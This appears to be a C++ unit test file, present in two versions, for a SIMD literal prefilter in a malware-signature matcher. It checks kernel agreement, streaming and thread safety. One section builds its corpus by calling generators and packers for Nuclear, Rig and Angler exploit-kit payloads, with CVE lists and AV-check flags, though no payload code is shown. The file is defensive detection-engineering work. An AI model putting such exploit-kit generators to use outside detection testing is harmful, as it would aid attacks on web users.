  texts.push_back("abcabcabcabc");            // dense hits
  texts.push_back(std::string(64, 'a'));      // no hits
  texts.push_back("\x01\x02\x03");            // non-ASCII bytes
  for (int i = 0; i < 32; ++i) {
    // Random lengths around the 16/32-byte block boundaries: tails, exact
    // blocks, one-past.
    const std::size_t len = rng.index(70);
    std::string t = rng.string_over("abcdezf(rom)CharCode\x01\x02\x03", len);
    texts.push_back(std::move(t));
  }
  // Occurrences straddling every block-relative offset.
  for (std::size_t at = 0; at < 40; ++at) {
    std::string t(64, 'q');
    t.replace(at, 4, "abcd");
    texts.push_back(std::move(t));
  }

  const auto impls = available_impls();
  ASSERT_FALSE(impls.empty());
  for (const std::string& text : texts) {
    teddy::HitBuffer reference;
    plan->scan(text, reference, teddy::Impl::kScalar);
    for (const teddy::Impl impl : impls) {
      teddy::HitBuffer hits;
      plan->scan(text, hits, impl);
      EXPECT_EQ(hits, reference)
          << teddy::impl_name(impl) << " diverged on \"" << text << '"';
    }
  }
}

// --------------------------- candidate oracle ---------------------------

TEST(TeddyPrefilter, EveryLiteralLengthOneToEight) {
  Rng rng(0x1E77);
  // One registration set per minimum length: sets containing 1- or 2-byte
  // literals must disqualify Teddy (and still agree with the automaton);
  // sets of only >=3-byte literals must route through it.
  for (std::size_t min_len = 1; min_len <= 8; ++min_len) {
    std::vector<std::pair<std::size_t, std::string>> regs;
    std::size_t id = 0;
    for (std::size_t len = min_len; len <= 8; ++len) {
      regs.emplace_back(id++, std::string(len, 'a'));          // runs
      regs.emplace_back(id++, rng.string_over("abcxyz", len)); // random
      std::string edge = "Z" + std::string(len > 1 ? len - 1 : 0, 'y');
      regs.emplace_back(id++, edge);
    }
    regs.emplace_back(id++, "");  // fallback rider
    const Pair p = build_pair(regs);
    EXPECT_EQ(p.teddy.teddy_active(), min_len >= 3) << min_len;

    std::vector<std::string> texts = {"", "a", "aaaaaaaaaa", "Zyyyyyyy",
                                      "xyzabcxyzabc"};
    for (int i = 0; i < 24; ++i) {
      texts.push_back(rng.string_over("abcxyzZ", 3 + rng.index(60)));
    }
    for (const std::string& t : texts) expect_equal_candidates(p, t);
  }
}

TEST(TeddyPrefilter, SharedPrefixBucketCollisions) {
  // Dozens of literals sharing one 4-byte prefix: they land in the same
  // bucket(s), every occurrence of the prefix lights the bucket, and only
  // exact confirmation may separate them.
  std::vector<std::pair<std::size_t, std::string>> regs;
  for (std::size_t i = 0; i < 40; ++i) {
    regs.emplace_back(i, "pref" + std::to_string(i));
  }
  regs.emplace_back(100, "prefix_shared_long_tail");
  regs.emplace_back(101, "pref");  // the bare prefix itself
  const Pair p = build_pair(regs);
  ASSERT_TRUE(p.teddy.teddy_active());

  expect_equal_candidates(p, "pref");
  expect_equal_candidates(p, "pref1");
  expect_equal_candidates(p, "pref39 pref12 pref");
  expect_equal_candidates(p, "prefix_shared_long_tail");
  expect_equal_candidates(p, "prefix_shared_long_tai");  // one byte short
  expect_equal_candidates(p, "xxprefxx pref3 pref33");
  EXPECT_EQ(p.teddy.candidates("pref7"),
            (std::vector<std::size_t>{7, 101}));
}

TEST(TeddyPrefilter, BoundaryPositions) {
  const Pair p = build_pair({{0, "needle"}, {1, "end"}, {2, "xyz"}});
  ASSERT_TRUE(p.teddy.teddy_active());

  // Occurrence at position 0.
  expect_equal_candidates(p, "needle");
  expect_equal_candidates(p, "needle rest of text");
  EXPECT_EQ(p.teddy.candidates("needle"), (std::vector<std::size_t>{0}));
  // Occurrence ending exactly at the last byte, across block-relative
  // alignments (the padded-tail path of the vector kernels).
  for (std::size_t pad = 0; pad < 40; ++pad) {
    const std::string tail_hit = std::string(pad, '.') + "end";
    expect_equal_candidates(p, tail_hit);
    EXPECT_EQ(p.teddy.candidates(tail_hit), (std::vector<std::size_t>{1}));
  }
  // Text shorter than any literal / shorter than the prefix window.
  expect_equal_candidates(p, "");
  expect_equal_candidates(p, "en");
  expect_equal_candidates(p, "ne");
  // Truncated occurrence at the very end (prefix present, tail cut off).
  expect_equal_candidates(p, "....needl");
  expect_equal_candidates(p, "....nee");
}

// ---------------------------- streaming oracle ----------------------------

TEST(TeddyStreaming, EverySplitPositionMatchesOneShot) {
  const Pair p = build_pair(
      {{0, "needle"}, {1, "spanner"}, {2, "xyz"}, {3, ""}, {4, "abcd"}});
  ASSERT_TRUE(p.teddy.teddy_active());
  const std::string text =
      "xx needle yy spanner zz abcd xyzxyz needlespanner abcdabcd";
  const auto expect = p.teddy.candidates(text);
  ASSERT_EQ(expect, p.automaton.candidates(text));

  for (std::size_t split = 0; split <= text.size(); ++split) {
    StreamingMatcher teddy_stream(p.teddy);
    teddy_stream.feed(std::string_view(text).substr(0, split));
    teddy_stream.feed(std::string_view(text).substr(split));
    EXPECT_EQ(teddy_stream.finish(), expect) << "split " << split;

    StreamingMatcher automaton_stream(p.automaton);
    automaton_stream.feed(std::string_view(text).substr(0, split));
    automaton_stream.feed(std::string_view(text).substr(split));
    EXPECT_EQ(automaton_stream.finish(), expect) << "split " << split;
  }

  // Byte-at-a-time and small odd chunks.
  for (const std::size_t chunk : {std::size_t{1}, std::size_t{7}}) {
    StreamingMatcher stream(p.teddy);
    for (std::size_t at = 0; at < text.size(); at += chunk) {
      stream.feed(std::string_view(text).substr(at, chunk));
    }
    EXPECT_EQ(stream.finish(), expect) << "chunk " << chunk;
  }
}

TEST(TeddyStreaming, ResetAndRebindClearTheCarriedWindow) {
  const Pair p = build_pair({{0, "straddle"}, {1, "abc"}});
  StreamingMatcher stream(p.teddy);
  stream.feed("strad");
  stream.reset();
  stream.feed("dle");  // must NOT complete "straddle" across the reset
  EXPECT_TRUE(stream.finish().empty());

  stream.reset();
  stream.feed("strad");
  stream.rebind(p.teddy);
  stream.feed("dle");
  EXPECT_TRUE(stream.finish().empty());

  stream.reset();
  stream.feed("strad");
  stream.feed("dle");
  EXPECT_EQ(stream.finish(), (std::vector<std::size_t>{0}));
}

// ----------------------------- kitgen corpus -----------------------------

std::vector<std::string> kitgen_corpus() {
  Rng rng(0xC0FFEE);
  std::vector<std::string> samples;
  for (int i = 0; i < 4; ++i) {
    kitgen::PayloadSpec spec;
    spec.family = kitgen::KitFamily::Nuclear;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Nuclear).cves;
    spec.av_check = true;
    spec.urls = {kitgen::make_landing_url(rng)};
    samples.push_back(text::normalize_raw(
        pack_nuclear(payload_text(spec), kitgen::NuclearPackerState{}, rng)));
    spec.family = kitgen::KitFamily::Rig;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Rig).cves;
    samples.push_back(text::normalize_raw(
        pack_rig(payload_text(spec), kitgen::RigPackerState{}, rng)));
    spec.family = kitgen::KitFamily::Angler;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Angler).cves;
    samples.push_back(text::normalize_raw(
        pack_angler(payload_text(spec), kitgen::AnglerPackerState{}, rng)));
  }
  samples.push_back("");
  samples.push_back("no literals in here at all");
  return samples;
}

// Deployed-database-shaped registrations: literal chunks cut from the
// corpus via the real signature-compilation path (Pattern::escape +
// required_literal), most from other samples than the one scanned.
std::vector<std::pair<std::size_t, std::string>> corpus_registrations(
    const std::vector<std::string>& corpus) {
  Rng rng(0xBEEF);
  std::vector<std::pair<std::size_t, std::string>> regs;
  std::size_t id = 0;
  for (const std::string& text : corpus) {
    if (text.size() < 128) continue;
    for (int k = 0; k < 6; ++k) {
      const std::size_t len = 16 + rng.index(32);
      const std::size_t at = rng.index(text.size() - len);
      const Pattern pat = Pattern::compile(
          Pattern::escape(text.substr(at, len)) + "[0-9a-zA-Z]{0,8}");
      regs.emplace_back(id++, pat.required_literal());
    }
  }
  regs.emplace_back(id++, "");  // fallback rider
  return regs;
}

TEST(TeddyPrefilter, KitgenCorpusOneShotEquivalence) {
  const auto corpus = kitgen_corpus();
  const Pair p = build_pair(corpus_registrations(corpus));
  ASSERT_TRUE(p.teddy.teddy_active());
  ASSERT_FALSE(p.automaton.teddy_active());
  for (const std::string& sample : corpus) {
    EXPECT_EQ(p.teddy.candidates(sample), p.automaton.candidates(sample));
  }
}

TEST(TeddyStreaming, KitgenCorpusEveryChunking) {
  const auto corpus = kitgen_corpus();
  const Pair p = build_pair(corpus_registrations(corpus));
  ASSERT_TRUE(p.teddy.teddy_active());

  for (const std::string& sample : corpus) {
    const auto expect = p.automaton.candidates(sample);
    for (const std::size_t chunk :
         {std::size_t{1}, std::size_t{7}, std::size_t{4096}, sample.size()}) {
      StreamingMatcher stream(p.teddy);
      if (chunk == 0) {
        stream.feed(sample);
      } else {
        for (std::size_t at = 0; at < sample.size(); at += chunk) {
          stream.feed(std::string_view(sample).substr(at, chunk));
        }
      }
      EXPECT_EQ(stream.finish(), expect) << "chunk " << chunk;
    }
  }

  // Every split position of one full sample.
  const std::string& sample = corpus.front();
  const auto expect = p.automaton.candidates(sample);
  StreamingMatcher stream(p.teddy);
  for (std::size_t split = 0; split <= sample.size(); ++split) {
    stream.reset();
    stream.feed(std::string_view(sample).substr(0, split));
    stream.feed(std::string_view(sample).substr(split));
    ASSERT_EQ(stream.finish(), expect) << "split " << split;
  }
}

// ------------------------------ concurrency ------------------------------

TEST(TeddyPrefilter, ConcurrentScansOverOneSharedPlan) {
  const auto corpus = kitgen_corpus();
  const Pair p = build_pair(corpus_registrations(corpus));
  ASSERT_TRUE(p.teddy.teddy_active());
  std::vector<std::vector<std::size_t>> expect;
  for (const std::string& sample : corpus) {
    expect.push_back(p.automaton.candidates(sample));
  }

  std::vector<std::thread> workers;
  std::vector<int> mismatches(4, 0);
  for (int w = 0; w < 4; ++w) {
    workers.emplace_back([&, w] {
      for (int round = 0; round < 8; ++round) {
        for (std::size_t i = 0; i < corpus.size(); ++i) {
          if (p.teddy.candidates(corpus[i]) != expect[i]) ++mismatches[w];
        }
      }
    });
  }
  for (std::thread& t : workers) t.join();
  for (const int m : mismatches) EXPECT_EQ(m, 0);
}

}  // namespace
}  // namespace kizzle::match
