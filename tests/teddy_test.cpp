// Differential oracle for the Teddy SIMD literal first stage
// (match/teddy.h) and its integration into the shared prefilter:
//
//   * kernel agreement — every compiled-in Impl (scalar shift-or, SSSE3,
//     AVX2 where the host supports them) emits byte-identical Hit
//     sequences on random and adversarial texts;
//   * candidate equivalence — a Teddy-routed LiteralPrefilter returns
//     byte-identical candidate sets to the forced automaton walk: literal
//     lengths 1..8 (short literals now compile into their own K=1/K=2
//     shards instead of disqualifying the set), mixed short/long sets,
//     5k–20k-literal sets spanning multiple shards, Fat (16-bucket)
//     versus 8-bucket plans, shared-prefix bucket collisions, occurrences
//     at position 0 and at the last possible position, and the full
//     kitgen corpus;
//   * streaming equivalence — StreamingMatcher over the Teddy path equals
//     one-shot candidates() for every split position and every chunking;
//   * thread safety — one shared plan scanned from many threads (the tsan
//     CI job runs this suite).
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "kitgen/families.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "match/pattern.h"
#include "match/prefilter.h"
#include "match/teddy.h"
#include "support/rng.h"
#include "text/normalize.h"

namespace kizzle::match {
namespace {

std::vector<teddy::Impl> available_impls() {
  std::vector<teddy::Impl> impls;
  for (const teddy::Impl impl :
       {teddy::Impl::kScalar, teddy::Impl::kSsse3, teddy::Impl::kAvx2}) {
    if (teddy::impl_available(impl)) impls.push_back(impl);
  }
  return impls;
}

// Builds the same registration set twice: one prefilter free to route
// through Teddy, one forced onto the automaton walk.
struct Pair {
  LiteralPrefilter teddy;
  LiteralPrefilter automaton;
};

Pair build_pair(const std::vector<std::pair<std::size_t, std::string>>& regs) {
  Pair p;
  for (const auto& [id, lit] : regs) {
    p.teddy.add(id, lit);
    p.automaton.add(id, lit);
  }
  p.teddy.build();
  p.automaton.build();
  p.automaton.set_first_stage(FirstStage::kAutomaton);
  return p;
}

void expect_equal_candidates(const Pair& p, std::string_view text) {
  EXPECT_EQ(p.teddy.candidates(text), p.automaton.candidates(text))
      << "text: " << text;
}

// ----------------------------- kernel unit -----------------------------

TEST(TeddyPlan, BuildGatesAndWindowLength) {
  using teddy::Plan;
  // The only per-shard gates left: an empty set, and a single shard past
  // its capacity (PlanSet splits those instead).
  EXPECT_FALSE(Plan::build({}).has_value());
  {
    std::vector<Plan::Literal> many;
    for (std::size_t i = 0; i <= Plan::kShardMaxLiterals; ++i) {
      many.push_back({"lit" + std::to_string(i), i});
    }
    EXPECT_FALSE(Plan::build(many).has_value());
    many.pop_back();
    EXPECT_TRUE(Plan::build(std::move(many)).has_value());
  }
  // The window length tracks the shortest literal, down to a single byte.
  EXPECT_EQ(Plan::build({{"a", 0}})->prefix_len(), 1u);
  EXPECT_EQ(Plan::build({{"ab", 0}, {"wxyz", 1}})->prefix_len(), 2u);
  EXPECT_EQ(Plan::build({{"abc", 0}, {"wxyz", 1}})->prefix_len(), 3u);
  EXPECT_EQ(Plan::build({{"abcd", 0}, {"wxyz", 1}})->prefix_len(), 4u);
}

TEST(TeddyPlanSet, ShardsByLengthClassAndSize) {
  using teddy::Plan;
  using teddy::PlanSet;
  EXPECT_FALSE(PlanSet::build({}).has_value());

  // One shard per populated length class (K = min(4, len)); 5+-byte
  // literals share the K=4 class.
  const auto mixed = PlanSet::build(
      {{"a", 0}, {"xy", 1}, {"abc", 2}, {"wxyz", 3}, {"longer", 4}});
  ASSERT_TRUE(mixed.has_value());
  EXPECT_EQ(mixed->shard_count(), 4u);
  EXPECT_EQ(mixed->literal_count(), 5u);
  EXPECT_EQ(mixed->max_literal_len(), 6u);

  // An oversized class splits into multiple shards; a crowded shard goes
  // Fat (16 buckets).
  std::vector<PlanSet::Literal> many;
  for (std::size_t i = 0; i < Plan::kShardMaxLiterals + 100; ++i) {
    many.push_back({"lit" + std::to_string(i), i});
  }
  const auto big = PlanSet::build(std::move(many));
  ASSERT_TRUE(big.has_value());
  EXPECT_EQ(big->shard_count(), 2u);
  EXPECT_EQ(big->literal_count(), Plan::kShardMaxLiterals + 100);
  for (const Plan& shard : big->shards()) {
    EXPECT_EQ(shard.bucket_count(),
              shard.literal_count() > PlanSet::kFatThreshold ? Plan::kFatBuckets
                                                             : Plan::kBuckets);
  }

  // A small set stays on 8 buckets.
  const auto small = PlanSet::build({{"abcd", 0}, {"wxyz", 1}});
  ASSERT_TRUE(small.has_value());
  ASSERT_EQ(small->shard_count(), 1u);
  EXPECT_EQ(small->shards().front().bucket_count(), Plan::kBuckets);
}

TEST(TeddyPlan, ImplsEmitIdenticalHits) {
  Rng rng(0x7EDD1);
  const std::vector<teddy::Plan::Literal> lits = {
      {"abc", 0}, {"abcd", 1}, {"bcde", 2}, {"fromCharCode", 3},
      {"eval(", 4}, {"\x01\x02\x03", 5}, {"zzz", 6}, {"abz", 7},
  };
  const auto plan = teddy::Plan::build(lits);
  ASSERT_TRUE(plan.has_value());

  std::vector<std::string> texts;
  texts.push_back("");
  texts.push_back("ab");                      // shorter than the prefix
  texts.push_back("abc");                     // exactly one prefix
  texts.push_back("abcabcabcabc");            // dense hits
  texts.push_back(std::string(64, 'a'));      // no hits
  texts.push_back("\x01\x02\x03");            // non-ASCII bytes
  for (int i = 0; i < 32; ++i) {
    // Random lengths around the 16/32-byte block boundaries: tails, exact
    // blocks, one-past.
    const std::size_t len = rng.index(70);
    std::string t = rng.string_over("abcdezf(rom)CharCode\x01\x02\x03", len);
    texts.push_back(std::move(t));
  }
  // Occurrences straddling every block-relative offset.
  for (std::size_t at = 0; at < 40; ++at) {
    std::string t(64, 'q');
    t.replace(at, 4, "abcd");
    texts.push_back(std::move(t));
  }

  const auto impls = available_impls();
  ASSERT_FALSE(impls.empty());
  for (const std::string& text : texts) {
    teddy::HitBuffer reference;
    plan->scan(text, reference, teddy::Impl::kScalar);
    for (const teddy::Impl impl : impls) {
      teddy::HitBuffer hits;
      plan->scan(text, hits, impl);
      EXPECT_EQ(hits, reference)
          << teddy::impl_name(impl) << " diverged on \"" << text << '"';
    }
  }
}

TEST(TeddyPlan, ImplsAgreeForEveryWindowLength) {
  // K = 1..4 exercise every carry arm of the vector kernels (K=1 is a pure
  // table lookup, K=4 uses all three shifted planes).
  Rng rng(0x7EDD2);
  const auto impls = available_impls();
  for (std::size_t min_len = 1; min_len <= 4; ++min_len) {
    std::vector<teddy::Plan::Literal> lits;
    std::size_t id = 0;
    for (std::size_t len = min_len; len <= min_len + 3; ++len) {
      lits.push_back({rng.string_over("abcxyz01", len), id++});
      lits.push_back({std::string(len, 'q'), id++});
    }
    const auto plan = teddy::Plan::build(std::move(lits));
    ASSERT_TRUE(plan.has_value());
    ASSERT_EQ(plan->prefix_len(), min_len);
    for (int i = 0; i < 48; ++i) {
      const std::string t = rng.string_over("abcxyzq01.", rng.index(70));
      teddy::HitBuffer reference;
      plan->scan(t, reference, teddy::Impl::kScalar);
      for (const teddy::Impl impl : impls) {
        teddy::HitBuffer hits;
        plan->scan(t, hits, impl);
        EXPECT_EQ(hits, reference)
            << teddy::impl_name(impl) << " K=" << min_len << " on \"" << t
            << '"';
      }
    }
  }
}

TEST(TeddyPlan, FatImplsEmitIdenticalHits) {
  // A Fat (16-bucket) plan can be forced on a small set; the AVX2 fat
  // kernel and the 16-bit-lane scalar shift-or must agree hit-for-hit.
  Rng rng(0xFA7);
  std::vector<teddy::Plan::Literal> lits;
  for (std::size_t i = 0; i < 40; ++i) {
    lits.push_back({rng.string_over("abcdefgh", 3 + rng.index(6)), i});
  }
  const auto plan =
      teddy::Plan::build(std::move(lits), teddy::Plan::kFatBuckets);
  ASSERT_TRUE(plan.has_value());
  ASSERT_EQ(plan->bucket_count(), teddy::Plan::kFatBuckets);
  for (int i = 0; i < 64; ++i) {
    const std::string t = rng.string_over("abcdefgh.", rng.index(90));
    teddy::HitBuffer reference;
    plan->scan(t, reference, teddy::Impl::kScalar);
    for (const teddy::Impl impl : available_impls()) {
      teddy::HitBuffer hits;
      plan->scan(t, hits, impl);
      EXPECT_EQ(hits, reference)
          << teddy::impl_name(impl) << " diverged on \"" << t << '"';
    }
  }
}

TEST(TeddyPlan, FatAndEightBucketPlansConfirmIdentically) {
  // Bucket masks differ between the two widths, so the comparison happens
  // after confirmation: both plans must surface exactly the same ids.
  Rng rng(0xFA8);
  std::vector<teddy::Plan::Literal> lits;
  const std::size_t n = 200;
  for (std::size_t i = 0; i < n; ++i) {
    lits.push_back({rng.string_over("abcdwxyz", 4 + rng.index(8)), i});
  }
  const auto narrow = teddy::Plan::build(lits, teddy::Plan::kBuckets);
  const auto fat = teddy::Plan::build(lits, teddy::Plan::kFatBuckets);
  ASSERT_TRUE(narrow.has_value());
  ASSERT_TRUE(fat.has_value());

  for (int i = 0; i < 48; ++i) {
    const std::string t = rng.string_over("abcdwxyz.", rng.index(200));
    teddy::HitBuffer hits;
    std::vector<std::uint8_t> seen_narrow(n, 0);
    std::vector<std::uint8_t> seen_fat(n, 0);
    std::vector<std::size_t> out_narrow;
    std::vector<std::size_t> out_fat;
    narrow->scan(t, hits);
    narrow->confirm(t, hits, seen_narrow, out_narrow, 0, n);
    fat->scan(t, hits);
    fat->confirm(t, hits, seen_fat, out_fat, 0, n);
    std::sort(out_narrow.begin(), out_narrow.end());
    std::sort(out_fat.begin(), out_fat.end());
    EXPECT_EQ(out_narrow, out_fat) << "text \"" << t << '"';
  }
}

// --------------------------- candidate oracle ---------------------------

TEST(TeddyPrefilter, EveryLiteralLengthOneToEight) {
  Rng rng(0x1E77);
  // One registration set per minimum length: every set — including ones
  // with 1- and 2-byte literals — routes through the sharded Teddy first
  // stage and must agree with the automaton byte-for-byte.
  for (std::size_t min_len = 1; min_len <= 8; ++min_len) {
    std::vector<std::pair<std::size_t, std::string>> regs;
    std::size_t id = 0;
    for (std::size_t len = min_len; len <= 8; ++len) {
      regs.emplace_back(id++, std::string(len, 'a'));          // runs
      regs.emplace_back(id++, rng.string_over("abcxyz", len)); // random
      std::string edge = "Z" + std::string(len > 1 ? len - 1 : 0, 'y');
      regs.emplace_back(id++, edge);
    }
    regs.emplace_back(id++, "");  // fallback rider
    const Pair p = build_pair(regs);
    EXPECT_TRUE(p.teddy.teddy_active()) << min_len;

    std::vector<std::string> texts = {"", "a", "aaaaaaaaaa", "Zyyyyyyy",
                                      "xyzabcxyzabc"};
    for (int i = 0; i < 24; ++i) {
      texts.push_back(rng.string_over("abcxyzZ", 3 + rng.index(60)));
    }
    for (const std::string& t : texts) expect_equal_candidates(p, t);
  }
}

TEST(TeddyPrefilter, SharedPrefixBucketCollisions) {
  // Dozens of literals sharing one 4-byte prefix: they land in the same
  // bucket(s), every occurrence of the prefix lights the bucket, and only
  // exact confirmation may separate them.
  std::vector<std::pair<std::size_t, std::string>> regs;
  for (std::size_t i = 0; i < 40; ++i) {
    regs.emplace_back(i, "pref" + std::to_string(i));
  }
  regs.emplace_back(100, "prefix_shared_long_tail");
  regs.emplace_back(101, "pref");  // the bare prefix itself
  const Pair p = build_pair(regs);
  ASSERT_TRUE(p.teddy.teddy_active());

  expect_equal_candidates(p, "pref");
  expect_equal_candidates(p, "pref1");
  expect_equal_candidates(p, "pref39 pref12 pref");
  expect_equal_candidates(p, "prefix_shared_long_tail");
  expect_equal_candidates(p, "prefix_shared_long_tai");  // one byte short
  expect_equal_candidates(p, "xxprefxx pref3 pref33");
  EXPECT_EQ(p.teddy.candidates("pref7"),
            (std::vector<std::size_t>{7, 101}));
}

TEST(TeddyPrefilter, BoundaryPositions) {
  const Pair p = build_pair({{0, "needle"}, {1, "end"}, {2, "xyz"}});
  ASSERT_TRUE(p.teddy.teddy_active());

  // Occurrence at position 0.
  expect_equal_candidates(p, "needle");
  expect_equal_candidates(p, "needle rest of text");
  EXPECT_EQ(p.teddy.candidates("needle"), (std::vector<std::size_t>{0}));
  // Occurrence ending exactly at the last byte, across block-relative
  // alignments (the padded-tail path of the vector kernels).
  for (std::size_t pad = 0; pad < 40; ++pad) {
    const std::string tail_hit = std::string(pad, '.') + "end";
    expect_equal_candidates(p, tail_hit);
    EXPECT_EQ(p.teddy.candidates(tail_hit), (std::vector<std::size_t>{1}));
  }
  // Text shorter than any literal / shorter than the prefix window.
  expect_equal_candidates(p, "");
  expect_equal_candidates(p, "en");
  expect_equal_candidates(p, "ne");
  // Truncated occurrence at the very end (prefix present, tail cut off).
  expect_equal_candidates(p, "....needl");
  expect_equal_candidates(p, "....nee");
}

TEST(TeddyPrefilter, MixedShortAndLongLiterals) {
  // 1–2-byte literals ride in their own shards next to long ones; the
  // candidate set must stay byte-identical to the automaton, including
  // texts where a short literal is a prefix/suffix of a long one.
  const Pair p = build_pair({{0, "x"},
                             {1, "ab"},
                             {2, "abc"},
                             {3, "abcdef"},
                             {4, "fromCharCode"},
                             {5, "f"},
                             {6, ""}});
  ASSERT_TRUE(p.teddy.teddy_active());
  ASSERT_EQ(p.teddy.teddy_plans()->shard_count(), 4u);

  Rng rng(0x515);
  std::vector<std::string> texts = {"",       "x",         "ab",
                                    "abc",    "abcdef",    "fromCharCode",
                                    "zzfzz",  "xabcdefx",  "abab",
                                    "fromCharCod", std::string(100, 'a')};
  for (int i = 0; i < 48; ++i) {
    texts.push_back(rng.string_over("abcdefxromCh.", rng.index(80)));
  }
  for (const std::string& t : texts) expect_equal_candidates(p, t);
}

TEST(TeddyPrefilter, BigSetsSpanMultipleShardsAndStayExact) {
  // 5k–20k literals: well past the old 4096-literal ceiling, split across
  // shards (the 20k set also crosses the per-shard capacity, and its
  // shards run Fat). Literals are short strings over a small alphabet so
  // the automaton baseline's dense goto table stays reasonably sized.
  Rng rng(0xB16);
  for (const std::size_t n_lits : {std::size_t{5000}, std::size_t{20000}}) {
    std::vector<std::pair<std::size_t, std::string>> regs;
    std::size_t id = 0;
    for (std::size_t i = 0; i < n_lits; ++i) {
      regs.emplace_back(id++, rng.string_over("abcdef", 5 + rng.index(4)));
    }
    const Pair p = build_pair(regs);
    ASSERT_TRUE(p.teddy.teddy_active()) << n_lits;
    const teddy::PlanSet* plans = p.teddy.teddy_plans();
    ASSERT_NE(plans, nullptr);
    EXPECT_GE(plans->shard_count(),
              n_lits > teddy::Plan::kShardMaxLiterals ? 2u : 1u);

    for (int i = 0; i < 12; ++i) {
      const std::string t = rng.string_over("abcdef", 200 + rng.index(800));
      expect_equal_candidates(p, t);
    }
    expect_equal_candidates(p, "");
    expect_equal_candidates(p, regs.front().second);
    expect_equal_candidates(p, regs.back().second);
  }
}

TEST(TeddyPrefilter, ScanStatsReportRoutingAndCounts) {
  const Pair p = build_pair({{0, "x"}, {1, "needle"}, {2, ""}});
  std::vector<std::size_t> out;
  teddy::HitBuffer hits;
  PrefilterStats stats;

  p.teddy.candidates_into("a needle in x", out, hits, &stats);
  EXPECT_EQ(stats.fallback, PrefilterFallback::kNone);
  EXPECT_EQ(stats.shards_scanned, 2u);  // K=1 and K=4 length classes
  EXPECT_GE(stats.first_stage_hits, 2u);
  EXPECT_EQ(stats.literal_survivors, 2u);

  p.teddy.candidates_into("nothing here", out, hits, &stats);
  EXPECT_EQ(stats.literal_survivors, 0u);

  p.automaton.candidates_into("a needle in x", out, hits, &stats);
  EXPECT_EQ(stats.fallback, PrefilterFallback::kForcedAutomaton);
  EXPECT_EQ(stats.first_stage_hits, 0u);
  EXPECT_EQ(stats.literal_survivors, 2u);
}

// ---------------------------- streaming oracle ----------------------------

TEST(TeddyStreaming, EverySplitPositionMatchesOneShot) {
  const Pair p = build_pair(
      {{0, "needle"}, {1, "spanner"}, {2, "xyz"}, {3, ""}, {4, "abcd"}});
  ASSERT_TRUE(p.teddy.teddy_active());
  const std::string text =
      "xx needle yy spanner zz abcd xyzxyz needlespanner abcdabcd";
  const auto expect = p.teddy.candidates(text);
  ASSERT_EQ(expect, p.automaton.candidates(text));

  for (std::size_t split = 0; split <= text.size(); ++split) {
    StreamingMatcher teddy_stream(p.teddy);
    teddy_stream.feed(std::string_view(text).substr(0, split));
    teddy_stream.feed(std::string_view(text).substr(split));
    EXPECT_EQ(teddy_stream.finish(), expect) << "split " << split;

    StreamingMatcher automaton_stream(p.automaton);
    automaton_stream.feed(std::string_view(text).substr(0, split));
    automaton_stream.feed(std::string_view(text).substr(split));
    EXPECT_EQ(automaton_stream.finish(), expect) << "split " << split;
  }

  // Byte-at-a-time and small odd chunks.
  for (const std::size_t chunk : {std::size_t{1}, std::size_t{7}}) {
    StreamingMatcher stream(p.teddy);
    for (std::size_t at = 0; at < text.size(); at += chunk) {
      stream.feed(std::string_view(text).substr(at, chunk));
    }
    EXPECT_EQ(stream.finish(), expect) << "chunk " << chunk;
  }
}

TEST(TeddyStreaming, EverySplitAcrossShardBoundaries) {
  // A database whose literals span all four length-class shards, streamed
  // with every split position: occurrences of every class must survive the
  // chunk boundary (the carried tail is sized by the LONGEST literal of
  // the whole set, not of any one shard).
  const Pair p = build_pair({{0, "k"},
                             {1, "qz"},
                             {2, "abc"},
                             {3, "straddlers"},
                             {4, "wxyz"},
                             {5, ""}});
  ASSERT_TRUE(p.teddy.teddy_active());
  ASSERT_EQ(p.teddy.teddy_plans()->shard_count(), 4u);
  const std::string text = "..k..qz..abc..straddlers..wxyz..qzk..";
  const auto expect = p.teddy.candidates(text);
  ASSERT_EQ(expect, p.automaton.candidates(text));
  ASSERT_EQ(expect, (std::vector<std::size_t>{0, 1, 2, 3, 4, 5}));

  for (std::size_t split = 0; split <= text.size(); ++split) {
    StreamingMatcher stream(p.teddy);
    stream.feed(std::string_view(text).substr(0, split));
    stream.feed(std::string_view(text).substr(split));
    EXPECT_EQ(stream.finish(), expect) << "split " << split;
  }
  // Byte-at-a-time: every literal crosses a feed boundary.
  StreamingMatcher stream(p.teddy);
  for (const char c : text) stream.feed(std::string_view(&c, 1));
  EXPECT_EQ(stream.finish(), expect);
}

TEST(TeddyStreaming, ResetAndRebindClearTheCarriedWindow) {
  const Pair p = build_pair({{0, "straddle"}, {1, "abc"}});
  StreamingMatcher stream(p.teddy);
  stream.feed("strad");
  stream.reset();
  stream.feed("dle");  // must NOT complete "straddle" across the reset
  EXPECT_TRUE(stream.finish().empty());

  stream.reset();
  stream.feed("strad");
  stream.rebind(p.teddy);
  stream.feed("dle");
  EXPECT_TRUE(stream.finish().empty());

  stream.reset();
  stream.feed("strad");
  stream.feed("dle");
  EXPECT_EQ(stream.finish(), (std::vector<std::size_t>{0}));
}

// ----------------------------- kitgen corpus -----------------------------

std::vector<std::string> kitgen_corpus() {
  Rng rng(0xC0FFEE);
  std::vector<std::string> samples;
  for (int i = 0; i < 4; ++i) {
    kitgen::PayloadSpec spec;
    spec.family = kitgen::KitFamily::Nuclear;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Nuclear).cves;
    spec.av_check = true;
    spec.urls = {kitgen::make_landing_url(rng)};
    samples.push_back(text::normalize_raw(
        pack_nuclear(payload_text(spec), kitgen::NuclearPackerState{}, rng)));
    spec.family = kitgen::KitFamily::Rig;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Rig).cves;
    samples.push_back(text::normalize_raw(
        pack_rig(payload_text(spec), kitgen::RigPackerState{}, rng)));
    spec.family = kitgen::KitFamily::Angler;
    spec.cves = kitgen::kit_info(kitgen::KitFamily::Angler).cves;
    samples.push_back(text::normalize_raw(
        pack_angler(payload_text(spec), kitgen::AnglerPackerState{}, rng)));
  }
  samples.push_back("");
  samples.push_back("no literals in here at all");
  return samples;
}

// Deployed-database-shaped registrations: literal chunks cut from the
// corpus via the real signature-compilation path (Pattern::escape +
// required_literal), most from other samples than the one scanned.
std::vector<std::pair<std::size_t, std::string>> corpus_registrations(
    const std::vector<std::string>& corpus) {
  Rng rng(0xBEEF);
  std::vector<std::pair<std::size_t, std::string>> regs;
  std::size_t id = 0;
  for (const std::string& text : corpus) {
